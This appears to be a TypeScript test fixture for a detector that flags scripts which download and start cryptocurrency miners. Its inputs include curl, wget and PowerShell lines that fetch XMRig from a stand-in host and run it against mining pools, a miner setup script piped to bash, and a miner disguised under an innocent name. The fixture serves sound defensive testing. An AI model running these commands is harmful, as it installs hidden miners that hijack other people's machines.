import type { ExtractorFixture } from '../../../tests/fixture.ts';

const release = 'https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz';

export const fixture: ExtractorFixture = {
  fires: [
    {
      name: 'a script that fetches XMRig and starts it',
      kind: 'script',
      input:
        '#!/bin/sh\ncd /tmp\ncurl -fsSL http://h.example/xmrig -o .x\nchmod +x .x\nnohup ./.x -o pool.example:1 &\n',
      expect: [
        { kind: 'download', value: { url: 'http://h.example/xmrig', tool: 'curl', target: '.x', runs: true } },
        { kind: 'miner-code', value: { family: 'xmrig', form: 'script', purpose: 'fetches-miner' } },
      ],
    },
    {
      name: 'a release archive that is unpacked and started',
      kind: 'script',
      input: `wget ${release}\ntar xf xmrig-*.tar.gz\ncd xmrig-6.21.0 && ./xmrig --donate-level 1\n`,
      expect: [
        { kind: 'download', value: { url: release, runs: true } },
        { kind: 'miner-code', value: { family: 'xmrig' } },
      ],
    },
    {
      name: 'a setup script handed to a shell',
      kind: 'text',
      input: 'curl -s -L https://h.example/setup_moneroocean_miner.sh | bash -s x',
      expect: [
        { kind: 'download', value: { tool: 'curl', runs: true } },
        { kind: 'miner-code', value: { family: 'xmrig' } },
      ],
    },
    {
      name: "a program under an innocent name, started with a miner's arguments",
      kind: 'script',
      input:
        'wget -q http://h.example/dbused -O /tmp/dbused\nchmod 777 /tmp/dbused\n/tmp/dbused -o pool.supportxmr.com:443 --donate-level 0\n',
      expect: [
        { kind: 'download', value: { target: '/tmp/dbused', runs: true } },
        { kind: 'miner-code', value: { family: 'unknown', purpose: 'fetches-miner' } },
      ],
    },
    {
      name: 'PowerShell in UTF-16',
      kind: 'script',
      input: new Uint8Array(
        [...'iwr http://h.example/xmrig.exe -OutFile a.exe\r\nStart-Process a.exe\r\n'].flatMap((c) => [
          c.charCodeAt(0),
          0,
        ]),
      ),
      expect: [
        { kind: 'download', value: { url: 'http://h.example/xmrig.exe', target: 'a.exe', runs: true } },
        { kind: 'miner-code', value: { family: 'xmrig' } },
      ],
    },
    {
      name: 'a miner that is fetched and not started',
      kind: 'script',
      input: 'curl -O http://h.example/xmrig.tar.gz\n',
      expect: [{ kind: 'download', value: { url: 'http://h.example/xmrig.tar.gz', target: 'xmrig.tar.gz' } }],
    },
  ],
  silent: [
    {
      name: 'a script that removes miners and fetches something else',
      kind: 'script',
      input: 'pkill -9 xmrig\nrm -f /tmp/kdevtmpfsi\ncurl -s https://h.example/agent.sh | sh\n',
    },
    {
      name: 'an article that shows the command',
      kind: 'document',
      input: `Fetch it with \`curl -O ${release}\` and start it: \`./xmrig\`.`,
    },
    { name: 'a rule', kind: 'rules', input: 'content:"wget http://h.example/xmrig -O x"; ./x' },
    {
      name: 'a script that only names a miner',
      kind: 'script',
      input: 'pgrep xmrig && curl -d alarm https://h.example/hook\n',
    },
  ],
};
